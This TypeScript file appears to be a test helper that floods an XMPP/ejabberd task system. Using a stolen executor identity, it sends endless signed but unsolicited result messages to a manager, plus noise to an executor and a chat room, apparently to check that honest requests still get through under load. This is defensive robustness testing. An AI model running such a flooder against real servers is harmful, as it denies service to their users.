/**
 * Program: sends stanzas without end, as fast as the server takes them, in the name of a task executor whose key it has. A
 * process of its own: what it costs to send them shall not hold up those who ask honestly.
 * It is told where by a `FloodOrder` as its argument, says `flooding` when it begins, and at SIGTERM how many it has sent.
 */
import { once } from 'node:events';
import { openRaw, newId, sealTo, sealed, sign, stealIdentity } from './hostile-client.ts';
import type { Endpoint } from './hostile-client.ts';

export type FloodOrder = {
  readonly folder: string;
  readonly endpoint: Endpoint;
  /** The flooder's own name, and that of the manager whose letters it writes. */
  readonly own: string;
  readonly manager: string;
  /** Addresses. */
  readonly to: { readonly manager: string; readonly executor: string; readonly room: string };
};

/** Letters that are written once and sent again and again. */
const LETTERS = 100;

const order = JSON.parse(process.argv[2]!) as FloodOrder;
const { domain } = order.endpoint;
const address = `${order.own}@${domain}`;
const own = await stealIdentity(order.folder, domain, `nodes/${order.own}`);
const stanzas = await write();

const stream = await openRaw(order.endpoint, own, address);
const { socket } = stream;
socket.write(
  `<presence to='${order.to.room}/flooder'><x xmlns='http://jabber.org/protocol/muc'/></presence>`,
);
await stream.until(/code=['"]110['"]/);
// What the room says to it, and what it is answered.
socket.removeAllListeners('data').resume();

let sent = 0;
process.once('SIGTERM', () => {
  process.stdout.write(`sent ${sent}\n`);
  process.exit();
});
process.stdout.write('flooding\n');
const text = stanzas.join('');
while (socket.writable) {
  if (!socket.write(text)) await once(socket, 'drain');
  sent += stanzas.length;
}
throw new Error('the server has closed the connection');

/** To the manager all that costs it most: letters that are right in everything but that nobody waits for them. To the others
 *  what they have no reason to read; to the room less, since ejabberd's rooms take in more than they can hand on. */
async function write(): Promise<string[]> {
  const manager = await stealIdentity(order.folder, domain, `nodes/${order.manager}`);
  const noise = sealed('noise'.repeat(4));
  const letters = await Promise.all(
    Array.from({ length: LETTERS }, async () => {
      const time = Date.now();
      const head = { type: 'result', id: newId(), from: address, to: order.to.manager.split('/')[0] };
      const what = { state: 'ok', result: { node: order.own, version: 'test', uptime: 1 } };
      return sealTo(await sign(own, { ...head, time, expires: time + 30_000, ...what }), manager);
    }),
  );
  return letters.flatMap((letter, index) => [
    `<message type='normal' to='${order.to.manager}'>${letter.toString()}</message>`,
    `<message type='normal' to='${order.to.executor}'>${noise.toString()}</message>`,
    ...(index % 10 === 0
      ? [`<message type='groupchat' to='${order.to.room}'>${noise.toString()}</message>`]
      : []),
  ]);
}
